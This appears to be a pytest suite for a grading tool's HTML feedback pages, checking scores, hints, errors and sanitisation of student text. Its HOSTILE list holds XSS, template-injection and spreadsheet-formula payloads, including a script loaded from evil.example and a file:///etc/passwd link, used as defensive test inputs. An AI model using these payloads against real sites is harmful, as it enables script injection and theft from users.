"""Feedback pages: what they say, and that nothing a student writes does anything on them."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from html.parser import HTMLParser

import pytest

pytest.importorskip("jinja2")

from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from twoplustwo.cli import app
from twoplustwo.exercises import catalogue
from twoplustwo.grading import feedback, marking, memo, pages, rubric
from twoplustwo.grading.classbook import ClassBookError, open_book
from twoplustwo.grading.marks import Mark
from twoplustwo.grading.plaintext import ACCENTS, cell, clean, uncell

from . import graded

run = CliRunner().invoke

RUBRIC = rubric.parse(graded.RUBRIC, "rubric.yml")
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script src=//evil.example/x.js></script>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "{{ 7 * 7 }} {% include 'shell.html' %}",
    "[x](javascript:alert(1)) ![p](https://evil.example/p.png)",
    "[r]\n\n[r]: javascript:alert(1)",
    "<https://evil.example/\u202egnp.exe>",
    "&lt;script&gt; &#x202e;gnp.exe &#0; &NewLine;",
    "]]> --> <!-- <![CDATA[",
    "\x00\x1b[31mred\x07 \u202eevil\u2066 \ufeff\u200b",
    "Z" + "\u0301" * 500,
    "\ud800 half a pair",
    '=HYPERLINK("http://evil.example")',
    "x" * 100_000,
]
fragments = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=80))
hostile_text = st.lists(fragments, min_size=1, max_size=4).map("".join)


class Skeleton(HTMLParser):
    """Elements and names of attributes of a page, in order; the text apart."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple] = []
        self.addresses: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, *(name for name, _ in attributes)))
        loads = ("href", "src", "action", "srcset", "data", "formaction", "poster", "xlink:href")
        self.addresses += [value or "" for name, value in attributes if name in loads]

    def handle_data(self, data):
        self.text += data


def harmless(page: Skeleton) -> None:
    """Fail if anything on a page without a script could run, load or disguise itself."""
    names = {name for _, *attributes in page.tags for name in attributes}
    assert not {name for name in names if name.startswith("on")} and "style" not in names
    assert not {tag for tag, *_ in page.tags} & {
        "script",
        "iframe",
        "object",
        "embed",
        "img",
        "form",
    }
    for address in page.addresses:
        assert address.startswith(("#", "data:image/svg+xml,", "https://", "http://")), address
    odd = [
        c for c in page.text if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c not in "\n\t"
    ]
    assert not [c for c in odd if c not in "\u200c\u200d"]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A graded class, and a catalogue that knows its set."""
    shelf = graded.shelf(tmp_path)
    monkeypatch.setattr(catalogue, "folder", lambda: shelf)
    monkeypatch.setattr(catalogue, "chapters", graded.chapters)
    return graded.write(tmp_path / "out", graded.submissions())


def page_of(row: dict, mark: Mark | None = None) -> str:
    """The page of one student with these fields."""
    book = graded.book([row])
    return feedback.page(book, book.rows[0], RUBRIC if mark else None, mark, {})


# ---- What a page says ------------------------------------------------------------------------


def test_a_page_for_every_student_and_a_list_of_them(folder):
    written = feedback.write(open_book(folder))
    assert len(written) == 25
    assert all(path.is_file() for path in written.values())
    with (folder / "feedback" / "index.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert {row["student_code"] for row in rows} == set(written)
    assert all((folder / "feedback" / row["page"]).is_file() for row in rows)


def test_points_checks_hint_value_and_chapter(folder):
    book = open_book(folder)
    code = next(r.owner for r in book.rows if r.tasks.get("brier", {}).get("signature"))
    row = book.by_owner[code]
    text = Skeleton(feedback.write(book, "https://course.example/")[code].read_text()).text
    total = sum(task["score"] for task in row.tasks.values())
    assert f"You have {pages.points(total)} of 12 points so far; up to 16 more" in text
    assert "brier does not agree with the reference" in text
    assert graded.HINT in text
    assert row.tasks["brier"]["value"] in text
    assert "Read again" in text


def test_a_right_task_shows_neither_value_nor_chapter():
    right = graded.task("brier", "2. Score", [("brier", True, 5)], value="brier = 0.123456")
    text = Skeleton(page_of({"owner": "k1", "result": graded.result([right])})).text
    assert "brier agrees with the reference" in text
    assert "0.123456" not in text


def test_chapters_are_links_only_where_the_book_is_published(folder):
    book = open_book(folder)
    code = next(r.owner for r in book.rows if r.tasks and r.tasks["coding"]["score"] < 4)
    linked = feedback.write(book, "https://course.example/")[code].read_text()
    assert 'href="https://course.example/book/start/reading.html">A policy text as data' in linked
    named = feedback.write(book)[code].read_text()
    assert "<cite>A policy text as data</cite>" in named
    assert "course.example" not in named


@pytest.mark.parametrize(("code", "words"), [("k006", "limit of 60 seconds"), ("k098", "is empty")])
def test_a_notebook_that_did_not_run_gets_its_reason_and_a_remedy(folder, code, words):
    text = Skeleton(feedback.write(open_book(folder))[code].read_text()).text
    assert words in text
    assert feedback.REMEDY in text
    assert "Nothing of this task" not in text


def test_an_error_of_a_cell_is_shown():
    broken = graded.task("coding", "1. Code", [("kinds", False, 4)], error="KeyError: 'claims'")
    text = Skeleton(page_of({"owner": "k1", "result": graded.result([broken])})).text
    assert "Your cell stopped with an error" in text
    assert "KeyError: 'claims'" in text


def test_the_message_of_a_hidden_test_is_never_shown():
    broken = graded.task("coding", "1. Code", [("kinds", False, 4)])
    broken["tests"][0]["message"] = "AssertionError: assert 3 == 41.375"
    assert "41.375" not in page_of({"owner": "k1", "result": graded.result([broken])})


def test_checks_of_sets_that_name_nothing_are_numbered():
    assert feedback._subject("q1 - 3", 1) == ("Check 3", False)
    assert feedback._subject("sum is right", 2) == ("Check 2", False)
    assert feedback._subject("test_brier", 2) == ("brier", True)


def test_marks_and_comment_once_there_are_some():
    levels = {"evidence": 4, "uncertainty": 3, "fairness": 0, "clarity": 2}
    row = {"owner": "k1", "result": graded.result([])}
    text = Skeleton(page_of(row, Mark(levels, "Say what it **costs**."))).text
    assert "You have 9 of 28 points." in text
    assert "Ranges, and one limit" in text
    assert "Say what it costs." in text
    assert "not marked yet" not in text


def test_without_isolation_the_page_says_so():
    result = graded.result([], isolation="none")
    assert "NOT ISOLATED" in page_of({"owner": "k1", "result": result})
    assert "NOT ISOLATED" not in page_of({"owner": "k1", "result": graded.result([])})


def test_the_same_ledger_gives_the_same_pages(folder):
    book = open_book(folder)
    first = {code: path.read_bytes() for code, path in feedback.write(book).items()}
    assert first == {code: path.read_bytes() for code, path in feedback.write(book).items()}


def test_a_folder_without_a_ledger_is_named(tmp_path):
    with pytest.raises(ClassBookError, match=r"no ledger\.sqlite"):
        open_book(tmp_path)
    ended = run(app, ["feedback", str(tmp_path)])
    assert ended.exit_code == 2
    assert "twoplustwo grade" in ended.output


def test_the_command_counts_its_pages_and_gives_json(folder):
    assert "25 pages written" in run(app, ["feedback", str(folder)]).output
    ended = run(app, ["feedback", str(folder), "--json"])
    assert len(json.loads(ended.stdout)) == 25


def test_marks_in_the_folder_reach_the_page(folder):
    desk = marking.open_desk(open_book(folder))
    mark = Mark({"evidence": 4, "uncertainty": 4, "fairness": 4, "clarity": 4}, "Good.")
    marking.Desk(desk.book, desk.rubric, {"k002": mark}).take()
    text = feedback.write(open_book(folder))["k002"].read_text()
    assert "16 of 16 points" in text


# ---- Hostile students ------------------------------------------------------------------------


def everything(text: str) -> dict:
    """A submission in which every field that a student can reach holds `text`."""
    task = graded.task("coding", "1. Code", [("kinds", False, 4)], value=text, error=text)
    task["hint"], task["signature"] = text, text
    task["tests"][0]["message"] = text
    result = graded.result([task], reason=text, notes=[text], output=text, memo={"memo": text})
    return {"owner": "k1", "name": text + ".ipynb", "reason": text, "result": result}


@given(hostile_text)
@settings(max_examples=60)
def test_whatever_a_student_writes_the_page_keeps_its_elements(text):
    plain = Skeleton(page_of(everything("plain")))
    shown = Skeleton(page_of(everything(text)))
    harmless(shown)
    if clean(text):
        assert shown.tags == plain.tags


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_known_attacks(text):
    for owner in ("k1", text):
        row = everything(text) | {"owner": owner}
        harmless(Skeleton(page_of(row, Mark({}, ""))))


def test_a_page_stays_short():
    assert len(page_of(everything("x" * 1_000_000))) < 60_000


def test_the_policy_admits_the_style_sheet_alone():
    page = page_of(everything("x"))
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)[1]
    assert "default-src &#39;none&#39;" in policy
    assert "script-src" not in policy
    assert "unsafe" not in policy


@given(st.lists(st.text(min_size=1, max_size=30), unique=True, max_size=12))
def test_no_two_students_share_a_file_even_where_capitals_do_not_count(codes):
    names = pages.file_names([*codes, "A1", "a1", "CON", "../../x"])
    folded = [name.casefold() for name in names.values()]
    assert len(set(folded)) == len(folded)
    for name in names.values():
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,80}\.html", name), name
        assert not re.match(r"(?i)(con|nul|aux)\.", name)


# ---- Text -------------------------------------------------------------------------------------


@given(st.text())
def test_cleaned_text_is_visible_and_can_be_written(text):
    shown = clean(text, None)
    shown.encode("utf-8")
    kinds = {unicodedata.category(c) for c in shown if c not in "\u200c\u200d"}
    assert not kinds & {"Cc", "Cf", "Cs", "Zl", "Zp"}


@given(st.text(max_size=400), st.integers(min_value=1, max_value=100))
def test_cleaned_text_is_cut(text, limit):
    marks = 6  # an escaped character takes the room of ten at most
    assert len(clean(text, limit)) <= 10 * limit + marks


def test_cleaning():
    assert clean("a\u202eb\x00c") == "a\\u202eb\\u0000c"
    assert clean(" a \n\n b\t") == "a b"
    assert clean("a\nb", lines=True) == "a\nb"
    assert clean("Z" + "\u0301" * 50) == "Z" + "\u0301" * ACCENTS
    assert clean("abcdef", 3) == "abc…"
    assert clean(None) == ""
    assert clean("нет いいえ \u0928\u0939\u0940\u0902") == "нет いいえ \u0928\u0939\u0940\u0902"


@given(st.text())
def test_a_cell_is_no_formula_and_comes_back(text):
    assert uncell(cell(text)) == text or text.startswith("'")
    assert not cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# ---- Markdown ---------------------------------------------------------------------------------


@given(hostile_text)
@settings(max_examples=150)
def test_markdown_of_a_student_can_neither_run_nor_load(text):
    shown = str(memo.html(text))
    page = Skeleton(shown)
    allowed = {
        ("a", "href", "rel"), ("blockquote",), ("br",), ("code",), ("div", "class", "tabindex"),
        ("em",), ("hr",), ("li",), ("ol",), ("ol", "start"), ("p",), ("p", "class"), ("pre",),
        ("span", "class"), ("strong",), ("table",), ("tbody",), ("td",), ("th",), ("thead",),
        ("tr",), ("ul",),
    }  # fmt: skip
    assert set(page.tags) <= allowed
    assert all(re.match(r"https?://", address) for address in page.addresses)
    harmless(page)


def test_markdown_keeps_its_form():
    shown = str(memo.html(graded.MEMO))
    assert '<p class="memo-heading">Should the channel reopen?</p>' in shown
    assert "<em>once</em>" in shown
    assert "<td>Meet</td>" in shown
    assert "picture: A chart (see the notebook)" in shown
    assert "tracker.example" not in shown
    assert 'the agency (<a href="https://example.org/list"' in shown


def test_an_address_stands_once():
    shown = str(memo.html("<https://example.org/a>"))
    assert shown.count("example.org/a") == 2  # the link and its text
    assert "(" not in shown


def test_a_memo_that_never_ends_is_cut():
    assert "Only the first 20,000 characters" in memo.html("word " * 10_000)


@pytest.mark.parametrize(
    "address",
    ["ftp://example.org/x", "mailto:a@example.org", "https://bank.example@evil.example/", "/etc",
     "file:///etc/passwd", "https://[half"],
)  # fmt: skip
def test_only_plain_web_addresses_become_links(address):
    assert "<a " not in memo.html(f"[words]({address}) and <{address}>")
